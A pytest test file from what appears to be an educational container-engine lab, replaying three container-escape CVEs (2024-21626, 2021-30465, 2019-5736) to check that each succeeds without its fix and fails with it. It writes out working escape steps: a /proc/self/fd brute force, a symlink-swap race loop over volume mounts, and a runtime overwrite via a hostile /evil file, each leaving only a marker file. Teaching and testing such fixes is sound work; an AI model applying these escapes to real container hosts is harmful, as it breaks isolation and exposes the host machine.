"""Chapter 9's replays (labs/escapes): each attack succeeds on an engine without the fix, and fails with it."""

from __future__ import annotations

import inspect
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from labs.kit.exercises import escapes, manifest, swap
from tests.conftest import REPOSITORY, Pyctr
from tests.leaks import children, wait_for_children


def unfixed(name: str) -> str:
    return f"--labs={escapes.ESCAPES / name}"


@pytest.fixture
def host(tmp_path: Path) -> Path:
    """Return a directory of the host, in which an attack leaves the file `marker`."""
    (tmp_path / "host").mkdir()
    return tmp_path / "host"


def test_a_working_directory_that_is_a_descriptor_leads_to_the_host_only_without_the_fix(
    pyctr: Pyctr, host: Path
) -> None:
    """CVE-2024-21626: as the attackers did, try every number."""
    attack = ("busybox", "sh", "-c", f"echo x >../../../../../..{host}/marker")

    def reaches(number: int, *flags: str) -> bool:
        pyctr(*flags, "run", "--rm", "-w", f"/proc/self/fd/{number}", *attack)
        found = (host / "marker").exists()
        (host / "marker").unlink(missing_ok=True)
        return found

    leaked = next((number for number in range(3, 20) if reaches(number, unfixed("cve_2024_21626"))), None)
    assert leaked is not None
    assert [number for number in (leaked, leaked + 1) if reaches(number)] == []


SWAP = """
cd /shared; mkdir swapped; ln -s {volumes} link
while usleep 100000; do
    mv -T swapped dir; mv -T link swapped
    usleep 100000; mv -T swapped link; mv -T dir swapped
done
"""


def test_a_swapped_directory_leads_to_the_host_only_without_the_fix(pyctr: Pyctr, host: Path) -> None:
    """CVE-2021-30465: a mount on the engine's volumes gives the name of one of them a new meaning."""
    bait = f"mkdir /bait/bait; ln -s {host} /bait/bait/_data"
    pyctr("run", "--rm", "-v", "bait:/bait", "busybox", "sh", "-c", bait, check=True)
    swap = SWAP.format(volumes=pyctr.root / "volumes")
    pyctr("run", "-d", "--name", "swapper", "-v", "shared:/shared", "busybox", "sh", "-c", swap, check=True)
    pyctr("exec", "swapper", "sh", "-c", "until [ -L /shared/swapped ]; do usleep 10000; done", check=True)
    victim = ("run", "--rm", "-v", "shared:/shared", "-v", "bait:/shared/swapped", "-v", "bait:/home/me/out")
    attack = ("busybox", "sh", "-c", "echo x >/home/me/out/marker")
    for _ in range(3):  # on a busy machine, the engine may be held up for longer than a swap takes
        if not (host / "marker").exists():
            pyctr(unfixed("cve_2021_30465"), *victim, *attack)
    assert (host / "marker").exists()
    (host / "marker").unlink()
    for _ in range(6):
        pyctr(*victim, *attack)
    assert not (host / "marker").exists()


@pytest.fixture
def copy(tmp_path: Path) -> Path:
    """Return a copy of this Python that an attack may overwrite."""
    program = tmp_path / "copy/bin/disposable-python"
    program.parent.mkdir(parents=True)
    shutil.copy(os.path.realpath(sys.executable), program)
    shutil.copy(Path(sys.prefix, "pyvenv.cfg"), tmp_path / "copy")
    (tmp_path / "copy/lib").symlink_to(Path(sys.prefix, "lib"))
    return program


@pytest.mark.parametrize(
    ("labs", "flags", "answer"),
    [
        ([unfixed("cve_2019_5736")], [], "Text file busy"),
        ([unfixed("cve_2019_5736")], ["--userns", "auto"], "Permission denied"),
        ([], [], "the path leads through a magic link"),
    ],
    ids=["without the fix", "without the fix, in a user namespace", "with the fix"],
)
def test_the_runtime_is_overwritten_only_without_the_fix_and_a_user_namespace(
    pyctr: Pyctr, host: Path, copy: Path, tmp_path: Path, labs: list[str], flags: list[str], answer: str
) -> None:
    """CVE-2019-5736: the next command that runs from the overwritten file is the attacker's, on the host."""

    def command(*arguments: str) -> subprocess.CompletedProcess[str]:
        engine = [copy, "-m", "pyctr_lite", "--root", pyctr.root]
        return subprocess.run([*engine, *arguments], cwd=REPOSITORY, capture_output=True, text=True)

    tool = escapes.ESCAPES / "cve_2019_5736/hostile_files.py"
    subprocess.run([sys.executable, tool, tmp_path / "hostile", f"echo x >{host}/marker"], check=True)
    running = children()
    pyctr(*labs, "run", "-d", "--name", "box", *flags, "busybox", "sleep", "60", check=True)
    pyctr("cp", f"{tmp_path}/hostile/.", "box:/", check=True)
    done = command("exec", "box", "/evil")
    assert answer in done.stderr, done
    overwritten = answer == "Text file busy"
    if overwritten:
        pyctr("exec", "box", "sh", "-c", "until [ -e /done ]; do usleep 10000; done", check=True)
    command("ps")
    assert (host / "marker").exists() == overwritten
    pyctr("rm", "-f", "box", check=True)
    assert wait_for_children(known=running, seconds=20) == {}


def test_a_copy_of_the_interpreter_is_the_only_engine_that_can_be_overwritten(
    pyctr: Pyctr, tmp_path: Path
) -> None:
    """With any other interpreter the fix stays in, so that no mistake costs the machine its Python."""
    tool = escapes.ESCAPES / "cve_2019_5736/hostile_files.py"
    subprocess.run([sys.executable, tool, tmp_path / "hostile", "true"], check=True)
    pyctr(unfixed("cve_2019_5736"), "run", "-d", "--name", "box", "busybox", "sleep", "60", check=True)
    pyctr("cp", f"{tmp_path}/hostile/.", "box:/", check=True)
    done = pyctr("exec", "box", "/evil")
    assert (done.returncode, "magic link" in done.stderr) == (126, True)


@pytest.mark.parametrize("name", escapes.names())
def test_a_function_without_its_fix_is_called_as_the_engines_own(name: str) -> None:
    module = swap.run_file(escapes.ESCAPES / name / swap.UNFIXED)
    for own, function in escapes.replaces(name).items():
        original = vars(manifest.owner_of(function))[function.rpartition(":")[2].rpartition(".")[2]]
        names = [list(inspect.signature(each).parameters) for each in (original, getattr(module, own))]
        assert names[0] == names[1]


@pytest.mark.parametrize("name", escapes.names())
def test_the_fix_of_an_escape_is_short_and_named(name: str) -> None:
    lines = escapes.fix(name).splitlines()
    assert lines[0].startswith("pyctr_lite/")
    assert 0 < len([line for line in lines if line.startswith("+")]) <= 20
    assert [line for line in lines if line.startswith("-")]


def test_a_file_of_an_escape_that_cannot_be_run_changes_nothing(pyctr: Pyctr, tmp_path: Path) -> None:
    (tmp_path / "escape").mkdir()
    (tmp_path / "escape" / swap.UNFIXED).write_text(
        'REPLACES = {"gone": "pyctr_lite.rootfs.target:open_in_root"}\n'
    )
    done = pyctr(f"--labs={tmp_path}/escape", "run", "--rm", "busybox", "echo", "fine")
    assert done.stdout == "fine\n"
    assert "AttributeError" in done.stderr
    assert "the engine's own functions are used instead" in done.stderr
